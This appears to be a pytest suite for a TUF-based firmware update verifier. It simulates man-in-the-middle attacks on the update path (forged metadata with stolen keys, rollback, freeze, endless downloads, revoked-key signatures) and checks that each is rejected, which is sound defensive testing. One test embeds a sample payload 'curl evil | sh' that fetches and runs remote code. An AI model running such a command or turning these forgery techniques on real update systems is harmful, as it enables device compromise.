"""Attacks on the update path, each against real signed metadata and the real ngclient.

A man in the middle (``Mitm``) sits in the HTTP server in front of an honest repository and
serves chosen bytes instead of the repository's files. Each test asserts the machine-readable
reason, that nothing new landed in the box's target cache, and that the box still accepts a
later good update (its trusted metadata was not poisoned).
"""

from __future__ import annotations

import copy
import hashlib
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from securesystemslib.signer import CryptoSigner, Signer
from tuf.api.metadata import Metadata, MetaFile, Signed, TargetFile

from agent.updater.verify import ReasonCode, UpdateRejected, UpdateVerifier
from firmware_manifests.repository import Repository
from firmware_manifests.serve import RepoRequestHandler, RepoServer

HW = "signctl-v2"


class Mitm:
    """What the attacker serves instead of the repository's files, by URL path."""

    def __init__(self) -> None:
        self.replace: dict[str, bytes] = {}
        self.endless: set[str] = set()
        self.sent: dict[str, int] = {}

    def clear(self) -> None:
        self.replace.clear()
        self.endless.clear()

    def handler(self) -> type[RepoRequestHandler]:
        mitm = self

        class Handler(RepoRequestHandler):
            def do_GET(self) -> None:
                path = self.path.split("?", 1)[0]
                if path in mitm.endless:
                    mitm._stream_forever(self, path)
                elif path in mitm.replace:
                    body = mitm.replace[path]
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                else:
                    super().do_GET()

        return Handler

    def _stream_forever(self, handler: RepoRequestHandler, path: str) -> None:
        handler.send_response(200)  # no Content-Length: the body ends when the server says so
        handler.end_headers()
        chunk = b"\0" * 65536
        self.sent[path] = 0
        try:
            while self.sent[path] < 512 * 1024 * 1024:  # safety stop for a broken client
                handler.wfile.write(chunk)
                self.sent[path] += len(chunk)
        except (TimeoutError, OSError):
            pass  # the box hung up: what we want


@pytest.fixture
def repo(tmp_path: Path) -> Repository:
    return Repository.init(tmp_path / "repo")


@pytest.fixture
def mitm() -> Mitm:
    return Mitm()


@pytest.fixture
def server(repo: Repository, mitm: Mitm) -> Iterator[RepoServer]:
    with RepoServer(repo.path, handler=mitm.handler()) as srv:
        yield srv


@pytest.fixture
def installed() -> dict[str, str]:
    return {"device_firmware": "2.0.0"}


@pytest.fixture
def box(repo: Repository, server: RepoServer, tmp_path: Path, installed) -> UpdateVerifier:
    meta = tmp_path / "box" / "metadata"
    meta.mkdir(parents=True)
    (meta / "root.json").write_bytes(repo.trusted_root(1))  # provisioned at enrolment
    return UpdateVerifier(meta, server.url, tmp_path / "box" / "cache", HW,
                          lambda kind: installed.get(kind.value), clock_slack_s=3600)


def publish(repo: Repository, tmp_path: Path, name: str, version: str, **kw) -> bytes:
    data = f"{name} {version}\n".encode() * 100
    src = tmp_path / "src" / name
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_bytes(data)
    kw.setdefault("kind", "device_firmware")
    kw.setdefault("hardware", [HW])
    repo.add_target(src, version=version, **kw)
    repo.sign()
    return data


def rejected(box: UpdateVerifier, name: str, reason: ReasonCode) -> UpdateRejected:
    """Assert the rejection reason and that the target cache did not change."""
    before = sorted(p.name for p in box.targets_cache_dir.iterdir())
    with pytest.raises(UpdateRejected) as info:
        box.verify_and_fetch(name)
    assert info.value.reason_code is reason, info.value
    assert info.value.to_record()["reason"] == reason.value
    assert sorted(p.name for p in box.targets_cache_dir.iterdir()) == before
    return info.value


def sign(signed: Signed, *signers: Signer) -> bytes:
    md = Metadata(signed)
    for signer in signers:
        md.sign(signer, append=True)
    return md.to_bytes()


def metafile(version: int, data: bytes) -> MetaFile:
    return MetaFile(version, len(data), {"sha256": hashlib.sha256(data).hexdigest()})


def target_url(repo: Repository, name: str) -> str:
    return f"/targets/{repo.targets().signed.targets[name].hashes['sha256']}.{name}"


def forge_with_stolen_online_keys(repo: Repository, mitm: Mitm, targets_bytes: bytes,
                                  targets_version: int) -> None:
    """Serve a snapshot + timestamp (real online keys) that list the given targets file."""
    snapshot = copy.deepcopy(repo.snapshot().signed)
    snapshot.version += 1
    snapshot.meta["targets.json"] = metafile(targets_version, targets_bytes)
    snapshot_bytes = sign(snapshot, repo.keys.load("snapshot"))
    timestamp = copy.deepcopy(repo.timestamp().signed)
    timestamp.version += 1
    timestamp.snapshot_meta = metafile(snapshot.version, snapshot_bytes)
    mitm.replace[f"/metadata/{snapshot.version}.snapshot.json"] = snapshot_bytes
    mitm.replace["/metadata/timestamp.json"] = sign(timestamp, repo.keys.load("timestamp"))


def recover_from_online_key_theft(repo: Repository, mitm: Mitm) -> None:
    mitm.clear()
    repo.rotate_key("snapshot")
    repo.rotate_key("timestamp")


# ---- arbitrary software ------------------------------------------------------------------
@pytest.mark.parametrize("how", ["flipped_byte", "truncated"])
def test_tampered_target_file(repo, mitm, box, tmp_path, how) -> None:
    data = publish(repo, tmp_path, "fw.bin", "2.1.0")
    bad = bytes([data[0] ^ 0x01]) + data[1:] if how == "flipped_byte" else data[:-1]
    mitm.replace[target_url(repo, "fw.bin")] = bad
    rejected(box, "fw.bin", ReasonCode.TAMPERED)
    mitm.clear()
    assert box.verify_and_fetch("fw.bin").path.read_bytes() == data


def test_targets_signed_by_a_key_root_does_not_trust(repo, mitm, box, tmp_path) -> None:
    """Fleet server breached: snapshot+timestamp keys stolen, the offline targets key not."""
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    box.verify_and_fetch("fw.bin")
    evil = copy.deepcopy(repo.targets().signed)
    evil.version += 1
    payload = b"#!/bin/sh\ncurl evil | sh\n"
    evil.targets["evil.bin"] = TargetFile.from_data("evil.bin", payload, ["sha256"])
    evil.targets["evil.bin"].unrecognized_fields["custom"] = {
        "kind": "agent_bundle", "version": "9.9.9", "hardware": [HW], "min_from_version": None
    }
    evil_bytes = sign(evil, CryptoSigner.generate_ed25519())
    mitm.replace[f"/metadata/{evil.version}.targets.json"] = evil_bytes
    mitm.replace[f"/targets/{hashlib.sha256(payload).hexdigest()}.evil.bin"] = payload
    forge_with_stolen_online_keys(repo, mitm, evil_bytes, evil.version)
    err = rejected(box, "evil.bin", ReasonCode.BAD_SIGNATURE)
    assert "targets" in err.message
    recover_from_online_key_theft(repo, mitm)
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")
    assert box.verify_and_fetch("fw-2.2.bin").name == "fw-2.2.bin"
    rejected(box, "evil.bin", ReasonCode.UNKNOWN_TARGET)


def test_metadata_with_its_signatures_stripped(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    md = repo.timestamp()
    md.signed.version += 1
    md.signatures.clear()
    mitm.replace["/metadata/timestamp.json"] = md.to_bytes()
    rejected(box, "fw.bin", ReasonCode.BAD_SIGNATURE)
    mitm.clear()
    assert box.verify_and_fetch("fw.bin").name == "fw.bin"


# ---- rollback -------------------------------------------------------------------------------
def test_replayed_older_timestamp(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    box.verify_and_fetch("fw.bin")
    old_timestamp = (repo.metadata_dir / "timestamp.json").read_bytes()
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")
    box.verify_and_fetch("fw-2.2.bin")
    mitm.replace["/metadata/timestamp.json"] = old_timestamp
    rejected(box, "fw-2.2.bin", ReasonCode.ROLLBACK)
    mitm.clear()
    publish(repo, tmp_path, "fw-2.3.bin", "2.3.0")
    assert box.verify_and_fetch("fw-2.3.bin").name == "fw-2.3.bin"


def test_timestamp_pointing_at_an_older_snapshot(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")
    box.verify_and_fetch("fw-2.2.bin")
    timestamp = copy.deepcopy(repo.timestamp().signed)
    timestamp.version += 1
    old = (repo.metadata_dir / "2.snapshot.json").read_bytes()
    timestamp.snapshot_meta = metafile(2, old)
    mitm.replace["/metadata/timestamp.json"] = sign(timestamp, repo.keys.load("timestamp"))
    rejected(box, "fw-2.2.bin", ReasonCode.ROLLBACK)
    mitm.clear()
    assert box.verify_and_fetch("fw-2.2.bin").name == "fw-2.2.bin"


def test_snapshot_listing_an_older_targets_version(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")  # targets v2
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")  # targets v3
    box.verify_and_fetch("fw-2.2.bin")
    forge_with_stolen_online_keys(repo, mitm, (repo.metadata_dir / "2.targets.json").read_bytes(), 2)
    rejected(box, "fw.bin", ReasonCode.ROLLBACK)
    recover_from_online_key_theft(repo, mitm)
    assert box.verify_and_fetch("fw.bin").name == "fw.bin"


@pytest.mark.parametrize("role", ["targets", "snapshot"])
def test_older_file_served_in_place_of_the_current_one(repo, mitm, box, tmp_path, role) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")  # v2
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")  # v3
    box.verify_and_fetch("fw-2.2.bin")  # the box trusts v3
    publish(repo, tmp_path, "fw-2.3.bin", "2.3.0")  # v4
    mitm.replace[f"/metadata/4.{role}.json"] = (repo.metadata_dir / f"2.{role}.json").read_bytes()
    rejected(box, "fw-2.3.bin", ReasonCode.ROLLBACK)
    mitm.clear()
    assert box.verify_and_fetch("fw-2.3.bin").name == "fw-2.3.bin"


# ---- freeze -------------------------------------------------------------------------------
def test_frozen_metadata_expired_beyond_the_slack(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    box.verify_and_fetch("fw.bin")
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")
    # the newest timestamp the attacker lets through expired 2 days ago (slack is 1 hour)
    three_days_ago = datetime.now(timezone.utc) - timedelta(days=3)
    Repository(repo.path, clock=lambda: three_days_ago).refresh_timestamp()
    err = rejected(box, "fw-2.2.bin", ReasonCode.FREEZE)
    assert "expired" in err.message
    repo.refresh_timestamp()
    assert box.verify_and_fetch("fw-2.2.bin").name == "fw-2.2.bin"


# ---- mix and match --------------------------------------------------------------------------
@pytest.mark.parametrize("stale", ["targets", "snapshot"])
def test_metadata_from_two_repository_states(repo, mitm, box, tmp_path, stale) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")  # state A: targets/snapshot v2
    box.verify_and_fetch("fw.bin")
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")  # state B: v3
    mitm.replace[f"/metadata/3.{stale}.json"] = (repo.metadata_dir / f"2.{stale}.json").read_bytes()
    rejected(box, "fw-2.2.bin", ReasonCode.MIX_AND_MATCH)
    mitm.clear()
    assert box.verify_and_fetch("fw-2.2.bin").name == "fw-2.2.bin"


# ---- policy in the signed custom fields ----------------------------------------------------
def test_target_for_other_hardware(repo, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw-v3.bin", "2.1.0", hardware=["signctl-v3"])
    err = rejected(box, "fw-v3.bin", ReasonCode.WRONG_HARDWARE)
    assert "signctl-v3" in err.message and HW in err.message
    publish(repo, tmp_path, "fw-v2.bin", "2.1.0")
    assert box.verify_and_fetch("fw-v2.bin").name == "fw-v2.bin"


@pytest.mark.parametrize("version", ["1.9.9", "2.0.0", "2.0"])
def test_downgrade_or_same_version(repo, box, tmp_path, version) -> None:
    publish(repo, tmp_path, "fw-old.bin", version)
    rejected(box, "fw-old.bin", ReasonCode.DOWNGRADE)
    publish(repo, tmp_path, "fw-new.bin", "2.0.1")
    assert box.verify_and_fetch("fw-new.bin").name == "fw-new.bin"


@pytest.mark.parametrize("have", ["1.4.0", None])
def test_too_old_to_upgrade(repo, box, tmp_path, installed, have) -> None:
    if have is None:
        del installed["device_firmware"]
    else:
        installed["device_firmware"] = have
    publish(repo, tmp_path, "fw-3.bin", "3.0.0", min_from="2.0.0")
    err = rejected(box, "fw-3.bin", ReasonCode.TOO_OLD_TO_UPGRADE)
    assert ">= 2.0.0" in err.message
    publish(repo, tmp_path, "fw-2.bin", "2.0.0")  # the bridge release, no min_from
    assert box.verify_and_fetch("fw-2.bin").name == "fw-2.bin"
    installed["device_firmware"] = "2.0.0"
    assert box.verify_and_fetch("fw-3.bin").name == "fw-3.bin"


def test_unknown_target_and_target_without_quanedge_fields(repo, box, tmp_path) -> None:
    rejected(box, "nope.bin", ReasonCode.UNKNOWN_TARGET)
    staged = copy.deepcopy(repo.targets().signed)
    staged.targets["raw.bin"] = TargetFile.from_data("raw.bin", b"raw", ["sha256"])
    repo.staging_file.write_bytes(Metadata(staged).to_bytes())
    repo.sign()  # validly signed, but no kind/version/hardware
    err = rejected(box, "raw.bin", ReasonCode.UNKNOWN_TARGET)
    assert "not a Quanedge target" in err.message


# ---- endless data ---------------------------------------------------------------------------
def test_endless_target_download_stops_at_the_signed_length(repo, mitm, box, tmp_path) -> None:
    data = publish(repo, tmp_path, "fw.bin", "2.1.0")
    url = target_url(repo, "fw.bin")
    mitm.endless.add(url)
    rejected(box, "fw.bin", ReasonCode.ENDLESS_DATA)
    # the box stopped reading right after the limit: only socket buffers' worth went out
    assert 0 < mitm.sent[url] < 32 * 1024 * 1024
    mitm.clear()
    assert box.verify_and_fetch("fw.bin").path.read_bytes() == data


def test_endless_timestamp(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    mitm.endless.add("/metadata/timestamp.json")
    rejected(box, "fw.bin", ReasonCode.ENDLESS_DATA)
    assert mitm.sent["/metadata/timestamp.json"] < 32 * 1024 * 1024
    mitm.clear()
    assert box.verify_and_fetch("fw.bin").name == "fw.bin"


# ---- key rotation ---------------------------------------------------------------------------
def test_box_with_only_root_v1_follows_a_root_rotation(repo, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    box.verify_and_fetch("fw.bin")
    repo.rotate_key("root")
    repo.rotate_key("targets")
    publish(repo, tmp_path, "fw-2.2.bin", "2.2.0")  # signed by the new targets key only
    assert box.verify_and_fetch("fw-2.2.bin").name == "fw-2.2.bin"
    trusted = Metadata.from_bytes((box.metadata_dir / "root.json").read_bytes()).signed
    assert trusted.version == 3


def test_root_signed_only_by_the_revoked_root_key(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    stolen_root_key = repo.keys.load("root")
    repo.rotate_key("root")
    box.verify_and_fetch("fw.bin")  # box now on root v2
    evil_root = copy.deepcopy(repo.root().signed)
    evil_root.version = 3
    attacker = CryptoSigner.generate_ed25519()
    for role in ("targets", "snapshot", "timestamp"):
        for keyid in list(evil_root.roles[role].keyids):
            evil_root.revoke_key(keyid, role)
        evil_root.add_key(attacker.public_key, role)
    mitm.replace["/metadata/3.root.json"] = sign(evil_root, stolen_root_key)
    rejected(box, "fw.bin", ReasonCode.BAD_SIGNATURE)
    mitm.clear()
    assert box.verify_and_fetch("fw.bin").name == "fw.bin"


def test_timestamp_signed_by_a_rotated_out_key(repo, mitm, box, tmp_path) -> None:
    publish(repo, tmp_path, "fw.bin", "2.1.0")
    box.verify_and_fetch("fw.bin")
    stolen = repo.keys.load("timestamp")
    repo.rotate_key("timestamp")
    timestamp = copy.deepcopy(repo.timestamp().signed)
    timestamp.version += 1
    mitm.replace["/metadata/timestamp.json"] = sign(timestamp, stolen)
    rejected(box, "fw.bin", ReasonCode.BAD_SIGNATURE)
    mitm.clear()
    assert box.verify_and_fetch("fw.bin").name == "fw.bin"
